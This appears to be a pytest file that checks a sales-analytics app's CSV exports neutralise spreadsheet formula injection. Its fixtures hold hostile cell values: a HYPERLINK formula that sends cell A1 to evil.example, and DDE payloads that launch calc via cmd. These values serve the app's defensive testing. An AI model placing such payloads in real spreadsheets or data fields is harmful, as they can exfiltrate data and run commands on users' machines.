"""CSV injection: channel names, product titles and SKUs are the tenant's text, and every CSV we
write (the API's `?format=csv`, the Overview and Reconciliation download buttons) must reach a
spreadsheet as text, never as a formula, while amounts, negative ones included, stay numbers."""

from __future__ import annotations

import csv
from datetime import UTC, date, datetime, time, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

import records
from db import ingest, reconciliation, rollups
from db.engine import transaction
from db.models import Platform
from db.queries import company_today
from tests.sims import BOX
from tests.test_overview import export
from web.exports import NUMBER, csv_text, safe_cell

TZ = ZoneInfo("America/New_York")
HOSTILE_CHANNEL = '=HYPERLINK("https://evil.example/?"&A1,"Click"),=1'
HOSTILE_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_SKU = "-2+3+cmd|' /C calc'!A0"
HOSTILE_CSV_CHANNEL = "+cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The hostile sales sit in the last week of the real clock (the Dash download has no date input):
# the tests that read them are `calendar` tests.


def noon(day: date) -> datetime:
    return datetime.combine(day, time(12), TZ).astimezone(UTC)


def order(external_id: str, day: date, refund_day: date | None = None) -> records.Order:
    """A 100.00 sale of a hostile product; with `refund_day`, all of it returned that day."""
    line = records.LineItem("L" + external_id, HOSTILE_SKU, HOSTILE_TITLE, 1, Decimal("100.00"))
    returned = records.RefundLine(line.external_id, 1, Decimal("100.00"))
    refunds = ()
    if refund_day:
        refunds = (records.Refund("R" + external_id, noon(refund_day), "refund", Decimal("100.00"), lines=(returned,)),)
    return records.Order(
        external_id=external_id,
        name="#" + external_id,
        currency="USD",
        created_at=noon(day),
        processed_at=noon(day),
        updated_at=noon(day),
        status="paid",
        shipping=Decimal("5.00"),
        tax=Decimal("8.00"),
        line_items=(line,),
        refunds=refunds,
    )


@pytest.fixture
def hostile(sessions, company, client, auth) -> tuple[int, date, date]:
    """A Shopify channel and a CSV channel with formula names, selling a formula-named product
    in the last week, one sale returned on a day without sales (a negative net sales day), and
    more the week before (falling metrics). The Shopify report says no sales: negative differences."""
    today = company_today(company)
    start, end = today - timedelta(days=6), today
    with transaction(sessions) as session:
        shop = Platform(
            company_id=company.id,
            kind="shopify",
            display_name=HOSTILE_CHANNEL,
            currency="USD",
            config={"shop_domain": "x.myshopify.com"},
            credentials=BOX.seal({"access_token": "shpat_unused"}),
        )
        sheet = Platform(company_id=company.id, kind="csv", display_name=HOSTILE_CSV_CHANNEL, currency="USD", config={})
        session.add_all([shop, sheet])
        session.flush()
        for platform, prefix in ((shop, "s"), (sheet, "c")):
            orders = [order(prefix + "1", start, refund_day=start + timedelta(days=2)), order(prefix + "2", start)]
            orders += [order(f"{prefix}{n}", start - timedelta(days=3)) for n in (3, 4, 5)]  # metrics fall
            rollups.rollup_daily(session, platform, ingest.upsert_orders(session, platform, orders, TZ))
        report = [records.ReportDay(start + timedelta(days=n), "America/New_York", "USD") for n in range(7)]
        reconciliation.store_report(session, shop.id, report, source="upload")  # fresh: nothing is fetched
        shop_id = shop.id
    assert auth.login().status_code == 302
    return shop_id, start, end


def cells(text: str) -> list[str]:
    """Every cell a spreadsheet would see, the `#` header lines included."""
    return [cell for row in csv.reader(text.splitlines()) for cell in row]


def assert_inert(text: str, names: bool = True, negatives: bool = False) -> None:
    """No cell is a formula; hostile names were there (neutralised); with `negatives`, negative
    amounts were there (still numbers)."""
    seen = cells(text)
    assert [c for c in seen if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)] == []
    assert any(c.startswith("'") for c in seen) == names
    assert any(NUMBER.fullmatch(c) and c.startswith("-") for c in seen) or not negatives


@pytest.mark.calendar
@pytest.mark.parametrize(
    ("path", "query", "names", "negatives"),
    [
        ("metrics", {}, False, True),  # negative changes
        ("sales-trend", {"granularity": "day"}, True, True),  # the day of the return
        ("sales-trend", {"granularity": "week"}, True, False),
        ("sales-trend", {"granularity": "month"}, True, False),
        ("platform-comparison", {}, True, False),
        ("top-products", {}, True, False),
    ],
)
def test_every_analytics_csv_is_inert(client, hostile, path, query, names, negatives):
    _, start, end = hostile
    query = {**query, "start_date": start, "end_date": end, "format": "csv"}
    response = client.get(f"/api/v1/analytics/{path}", query_string=query)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert_inert(text, names, negatives)
    if path == "top-products":
        assert f"'{HOSTILE_SKU}" in cells(text) and f"'{HOSTILE_TITLE}" in cells(text)


@pytest.mark.calendar
def test_the_reconciliation_csv_is_inert(client, hostile):
    shop_id, start, end = hostile
    query = {"platform": shop_id, "start_date": start, "end_date": end, "format": "csv"}
    response = client.get("/api/v1/analytics/reconciliation", query_string=query)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert_inert(text, negatives=True)
    assert all(line.startswith("#") for line in text.splitlines()[:4])  # the header stays comments


@pytest.mark.calendar
def test_the_dash_downloads_are_inert(client, hostile):
    shop_id, start, end = hostile
    client.get("/")  # Dash registers its routing callbacks on the first page load
    filters = {"preset": "custom", "start": start.isoformat(), "end": end.isoformat()}
    for panel, names, negatives in (
        ("trend", True, True),
        ("channels", True, False),
        ("products", True, False),
        ("kpis", False, True),
    ):
        content = export(client, panel, filters)["content"]
        assert_inert(content, names, negatives)
        if panel in ("trend", "channels"):
            assert f"'{HOSTILE_CSV_CHANNEL}" in cells(content), panel
    assert f"'{HOSTILE_SKU}" in cells(export(client, "products", filters)["content"])

    body = {
        "output": "recon-download.data",
        "outputs": {"id": "recon-download", "property": "data"},
        "inputs": [{"id": "recon-export", "property": "n_clicks", "value": 1}],
        "changedPropIds": ["recon-export.n_clicks"],
        "state": [
            {"id": "recon-platform", "property": "value", "value": shop_id},
            {"id": "recon-dates", "property": "start_date", "value": start.isoformat()},
            {"id": "recon-dates", "property": "end_date", "value": end.isoformat()},
        ],
    }
    response = client.post("/_dash-update-component", json=body)
    assert response.status_code == 200, response.data[:300]
    assert_inert(response.json["response"]["recon-download"]["data"]["content"], negatives=True)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        (Decimal("-4.10"), Decimal("-4.10")),
        (-7, -7),
        (None, None),
        ("Speaker = good", "Speaker = good"),
    ],
)
def test_the_cell_rule(value, written):
    assert safe_cell(value) == written


def test_header_lines_stay_one_comment_line_each():
    text = csv_text(['Report of x,=1+1,"=2+2"\n=3+3,ok'], ["a"], [[1]])
    assert text.splitlines()[0].startswith("# ") and len(text.splitlines()) == 3
    assert [c for c in cells(text) if c.startswith(FORMULA_STARTS)] == []
